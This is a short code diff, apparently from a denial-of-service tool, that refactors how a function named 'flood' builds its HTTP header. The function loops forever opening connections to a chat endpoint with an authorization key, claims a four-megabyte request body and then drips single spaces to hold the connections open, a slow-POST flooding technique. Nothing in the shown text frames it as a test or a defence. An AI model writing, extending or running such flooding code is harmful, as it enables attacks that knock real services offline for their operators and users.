@@ -234,7 +234,8 @@ async def flood(attack: Attack) -> None:
         while True:
             with suppress(OSError):
                 reader, writer = await asyncio.open_connection(host, int(port))
-                head = f"POST {CHAT} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: {key}\r\nContent-Type: application/json\r\n"
+                head = f"POST {CHAT} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: {key}\r\n"
+                head += "Content-Type: application/json\r\n"
                 writer.write(f"{head}Content-Length: 4000000\r\n\r\n".encode())
                 for _ in range(60):
                     writer.write(b" ")
